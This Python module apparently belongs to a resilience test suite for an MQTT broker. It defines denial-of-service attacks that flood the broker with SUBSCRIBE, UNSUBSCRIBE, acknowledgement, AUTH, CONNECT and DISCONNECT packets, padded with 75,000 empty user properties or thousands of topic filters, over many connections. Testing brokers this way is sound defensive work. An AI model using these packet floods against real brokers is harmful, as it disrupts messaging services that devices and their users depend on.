"""Packets of every type, with as many properties or filters as a packet holds: most of them no plugin sees."""

import itertools
from collections.abc import Callable, Iterator

import mqtt
from assault import Slot, Volley, endless
from field import Field

# 75,000 user properties of nothing: 375 KB, below the broker's largest packet.
PROPERTIES = b"\x26\x00\x00\x00\x00" * 75_000
FILTERS = 10_000


def unsubscribe(field: Field) -> bytes:
    return mqtt.unsubscribe([f"{field.mallory.down}/x"], properties=PROPERTIES)


def unsubscribe_many(field: Field) -> bytes:
    return mqtt.unsubscribe(["a"] * FILTERS)


def subscribe(field: Field) -> bytes:
    return mqtt.subscribe([f"{field.mallory.down}/x"], properties=PROPERTIES)


def subscribe_many(field: Field) -> bytes:
    return mqtt.subscribe([f"{field.mallory.down}/x"] * (FILTERS // 2))


def puback(field: Field) -> bytes:
    return mqtt.acknowledgement(0x40, PROPERTIES)


def pubrec(field: Field) -> bytes:
    return mqtt.acknowledgement(0x50, PROPERTIES)


def pubrel(field: Field) -> bytes:
    return mqtt.acknowledgement(0x62, PROPERTIES)


def pubcomp(field: Field) -> bytes:
    return mqtt.acknowledgement(0x70, PROPERTIES)


def auth(field: Field) -> bytes:
    """AUTH that begins anew what was never begun: an authentication method, and the properties."""
    properties = b"\x15" + mqtt.text("x") + PROPERTIES
    return mqtt.packet(0xF0, b"\x19" + mqtt.length(len(properties)) + properties)


def pingreq(field: Field) -> bytes:
    return mqtt.PINGREQ


def repeated(name: str, packet: Callable[[Field], bytes], connections: int) -> Callable[[Field], None]:
    """An attack: a packet again and again, over so many connections of one device."""

    def begin(field: Field) -> None:
        volley = Volley.of(packet(field))
        for number in range(connections):
            connect = field.mallory.connect_packet(f"packets{number}")
            field.open(Slot(field.tcp, connect, ammunition=endless(volley)))

    where = "one connection" if connections == 1 else f"{connections} connections of one device"
    begin.__doc__ = f"{name}, as fast as the broker takes them, over {where}."
    return begin


def connects(field: Field) -> None:
    """Sign-ins with a good token and 75,000 user properties in CONNECT, 200 a second, each gone at once."""
    connect = field.mallory.connect_packet("packets", properties=PROPERTIES)
    field.assault.repeat(itertools.repeat(Slot(field.tcp, connect, leaves=True)), 200)


def disconnects(field: Field) -> None:
    """Four connections that sign in, send DISCONNECT with 75,000 user properties, and come back."""
    body = b"\x00" + mqtt.length(len(PROPERTIES)) + PROPERTIES
    volley = Volley(mqtt.packet(0xE0, body), 1)

    def once() -> Iterator[Volley]:
        yield volley

    for number in range(4):
        field.open(Slot(field.tcp, field.mallory.connect_packet(f"packets{number}"), ammunition=once))
